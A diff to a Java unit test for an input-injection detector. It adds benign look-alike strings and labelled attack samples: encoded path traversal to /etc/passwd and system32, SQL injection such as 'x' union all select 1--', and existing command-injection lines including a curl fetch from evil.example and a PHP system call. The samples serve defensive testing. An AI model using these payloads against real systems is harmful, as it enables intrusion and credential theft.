@@ -30,7 +30,8 @@ class DetectorsTest {
         "email me at a.b@example.com", "50% off", "C# and C++ are languages", "It's {big} news",
         "Caf%C3%A9 cr%C3%A8me", "sleep 8 hours a night", "Which cat is yours?", "curl up with a book",
         "etc. and passwords", "He said 'more please'", "Tom & Reg went home", "see /about for more",
-        "Part 2/3: the end", "50%c0ffee"})
+        "Part 2/3: the end", "50%c0ffee", "3 or 5 large boxes", "\"red shoes\" and \"blue hats\"",
+        "frames 8\" or 10\"", "It' is not a drill at all", "Bob' union selected him", "windows, system32 and more"})
     void passesBenignLookAlikes(String s) {
         assertEquals(Optional.empty(), inspect(s), s);
     }
@@ -53,7 +54,9 @@ class DetectorsTest {
         "%c0.%c0./%c0.%c0./etc/hosts|PATH", "..%c0%5c..%c0%5cweb.config|PATH", "0x2e0x2e/0x2e0x2e/etc/motd|PATH",
         "....//....//etc/passwd|PATH", "..;/..;/manager/html|PATH", "..%01/..%01/etc/shadow|PATH",
         "\\\\?\\C:\\Windows\\win.ini|PATH", "C:\\boot.ini|PATH", "file:///etc/passwd|PATH",
-        "/etc/passwd%00.png|PATH", "image.png%00../x|PATH",
+        "/etc/passwd%00.png|PATH", "image.png%00../x|PATH", "%c0%fe%c0%fe%c0%feetc%c0%fepasswd|PATH",
+        "..%c0%5e..%c0%5ewindows%2%fsystem32|PATH",
+        "1 union all distinct select 1|SQL", "x' union all select 1--|SQL", "1 or 1=1 metal|SQL",
         "uname -a|COMMAND", "netsh firewall set opmode disable|COMMAND", "perl -e 'print 1'|COMMAND",
         "curl https://evil.example/x.sh|COMMAND", "sleep 10|COMMAND", "which wget|COMMAND", "x' whoami|COMMAND",
         "<?php system('id'); ?>|COMMAND", "; phpinfo()|COMMAND", "cat${IFS}/etc/passwd|COMMAND",
@@ -110,7 +113,8 @@ class DetectorsTest {
     @ParameterizedTest
     @ValueSource(strings = {"'", "\"", "%25", "&#x26;", "<", "..", "$(", "{{", "\\u0027", "-- ", "or 1=", "a",
         "%%32", "%%32%65", "%c0", "%c1%pc", "%c0%", "%e0%80", "%f0%80%80", "%fc%80%80%80%80", "%bg", "' ", "'\t",
-        "..\u2215", "0x2e", "..2f", "which ", "uname ", "\n\n", "#@"})
+        "..\u2215", "0x2e", "..2f", "which ", "uname ", "\n\n", "#@", "etc%", "etc",
+        "windows%c1", "\" and \""})
     void workIsLinearInLengthOnPathologicalInput(String unit) {
         int target = 1 << 20;
         String s = unit.repeat(target / unit.length());
